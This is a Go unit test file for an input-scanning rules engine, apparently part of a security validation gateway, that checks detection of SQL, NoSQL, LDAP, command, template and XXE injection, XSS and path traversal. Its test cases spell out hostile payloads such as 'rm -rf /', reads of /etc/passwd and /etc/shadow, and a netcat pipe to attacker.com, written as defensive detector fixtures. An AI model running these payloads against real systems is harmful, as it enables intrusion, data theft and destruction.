package rules

import (
	"slices"
	"testing"

	"github.com/secureproxy/validation-gateway/internal/config"
)

func newDefaultEngine(t *testing.T) *Engine {
	t.Helper()

	cfg := config.RulesConfig{}
	engine, err := NewEngine(defaultCategories(t, &cfg))
	if err != nil {
		t.Fatalf("NewEngine failed: %v", err)
	}
	return engine
}

func defaultCategories(t *testing.T, cfg *config.RulesConfig) []config.CategoryRule {
	t.Helper()

	t.Setenv("RULES_CONFIG_PATH", "does-not-exist.yaml")
	loaded, err := config.LoadRulesConfig()
	if err != nil {
		t.Fatalf("LoadRulesConfig failed: %v", err)
	}
	return loaded.Categories
}

func TestEngine_DetectsCategory(t *testing.T) {
	engine := newDefaultEngine(t)

	tests := []struct {
		name  string
		text  string
		issue string
	}{
		{"sql or true", "SELECT * FROM users WHERE id = '1' OR 1=1--", "sql_injection_attempt"},
		{"sql union", "admin' UNION SELECT password FROM users--", "sql_injection_attempt"},
		{"sql drop table", "'; DROP TABLE users; --", "sql_injection_attempt"},
		{"sql quoted or", "' OR '1'='1", "sql_injection_attempt"},
		{"sql xp_cmdshell", "test'; exec xp_cmdshell('dir')--", "sql_injection_attempt"},
		{"xss script tag", "<script>alert('XSS')</script>", "xss_attempt"},
		{"xss javascript uri", "javascript:alert('XSS')", "xss_attempt"},
		{"xss event handler", "<img src=x onerror=alert('XSS')>", "xss_attempt"},
		{"xss document write", "document.write('<b>x</b>')", "xss_attempt"},
		{"cmd rm", "test; rm -rf /", "command_injection_attempt"},
		{"cmd echo", "file.txt & echo 'injected'", "command_injection_attempt"},
		{"cmd netcat", "data | nc attacker.com 1234", "command_injection_attempt"},
		{"cmd cat", "input; cat /etc/passwd", "command_injection_attempt"},
		{"cmd subshell", "$(whoami)", "command_injection_attempt"},
		{"cmd backticks", "`id`", "command_injection_attempt"},
		{"nosql ne", `{"username": {"$ne": null}, "password": {"$ne": null}}`, "nosql_injection_attempt"},
		{"nosql where", `{"$where": "this.username == this.password"}`, "nosql_injection_attempt"},
		{"nosql return true", `admin"; return true; var x="`, "nosql_injection_attempt"},
		{"nosql regex", `{"user": {"$regex": ".*"}}`, "nosql_injection_attempt"},
		{"ldap wildcard", "*)(uid=*", "ldap_injection_attempt"},
		{"path dotdot slash", "../../../etc/passwd", "path_traversal_attempt"},
		{"path dotdot backslash", `..\..\..\windows\system32\config\sam`, "path_traversal_attempt"},
		{"path etc shadow", "/etc/shadow", "path_traversal_attempt"},
		{"path windows drive", `C:\windows\system32\drivers\etc\hosts`, "path_traversal_attempt"},
		{"xxe doctype entity", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, "xxe_attempt"},
		{"xxe entity", `<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">`, "xxe_attempt"},
		{"template double brace", "{{7*7}}", "template_injection_attempt"},
		{"template dollar brace", "${7*7}", "template_injection_attempt"},
		{"template erb", "<%=7*7%>", "template_injection_attempt"},
		{"template hash brace", "#{7*7}", "template_injection_attempt"},
		{"exec eval", "eval('malicious_code')", "code_execution_attempt:eval"},
		{"exec system", "system('rm -rf /')", "code_execution_attempt:system"},
		{"exec shell_exec", "shell_exec('cat /etc/passwd')", "code_execution_attempt:shell_exec"},
		{"suspicious mkdir", "mkdir('/tmp/malicious')", "suspicious_function_detected:mkdir"},
		{"suspicious chars", "a;b", "suspicious_characters"},
	}

	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			issues := engine.Scan(test.text)
			if !slices.Contains(issues, test.issue) {
				t.Errorf("Scan(%q) = %v, want it to contain %q", test.text, issues, test.issue)
			}
		})
	}
}

func TestEngine_FirstMatchEmitsSingleIssue(t *testing.T) {
	engine := newDefaultEngine(t)

	// Hits both the union_select and drop_table patterns; the category is
	// first-match so exactly one SQL issue comes out.
	issues := engine.Scan("UNION SELECT 1; DROP TABLE users")

	count := 0
	for _, issue := range issues {
		if issue == "sql_injection_attempt" {
			count++
		}
	}
	if count != 1 {
		t.Errorf("got %d sql_injection_attempt issues, want exactly 1 (issues: %v)", count, issues)
	}
}

func TestEngine_MatchAllEmitsPerPattern(t *testing.T) {
	engine := newDefaultEngine(t)

	issues := engine.Scan("__import__('os').system('id'); eval(payload)")

	for _, want := range []string{
		"code_execution_attempt:eval",
		"code_execution_attempt:system",
		"code_execution_attempt:python_import",
	} {
		if !slices.Contains(issues, want) {
			t.Errorf("expected %q in issues, got %v", want, issues)
		}
	}
}

func TestEngine_TemplateInjectionIsCaseSensitiveOnly(t *testing.T) {
	engine := newDefaultEngine(t)

	// Uppercase SQL keywords still match; template tokens have no case to
	// fold, but the category must not lowercase the input.
	issues := engine.Scan("DROP TABLE accounts")
	if !slices.Contains(issues, "sql_injection_attempt") {
		t.Errorf("uppercase SQL keywords should match, got %v", issues)
	}

	policies := engine.Categories()
	if policies["code_execution"] != true {
		t.Error("code_execution should be a match-all category")
	}
	if policies["sql_injection"] != false {
		t.Error("sql_injection should be a first-match category")
	}
	if policies["suspicious_function"] != true {
		t.Error("suspicious_function should be a match-all category")
	}
}

func TestEngine_EmptyAndCleanInput(t *testing.T) {
	engine := newDefaultEngine(t)

	if issues := engine.Scan(""); len(issues) != 0 {
		t.Errorf("empty input produced issues: %v", issues)
	}

	if issues := engine.Scan("Hello, this is a safe message."); len(issues) != 0 {
		t.Errorf("clean input produced issues: %v", issues)
	}
}

func TestEngine_DetectionOrderIsStable(t *testing.T) {
	engine := newDefaultEngine(t)

	text := "'; DROP TABLE users; -- <script>alert(1)</script>"
	first := engine.Scan(text)
	for range 10 {
		if got := engine.Scan(text); !slices.Equal(got, first) {
			t.Fatalf("unstable detection order: %v vs %v", got, first)
		}
	}
}

func TestNewEngine_RejectsBadPattern(t *testing.T) {
	_, err := NewEngine([]config.CategoryRule{
		{
			Name:     "broken",
			Issue:    "broken",
			Patterns: []config.PatternRule{{Label: "bad", Expr: "("}},
		},
	})
	if err == nil {
		t.Error("expected error for invalid regex")
	}
}
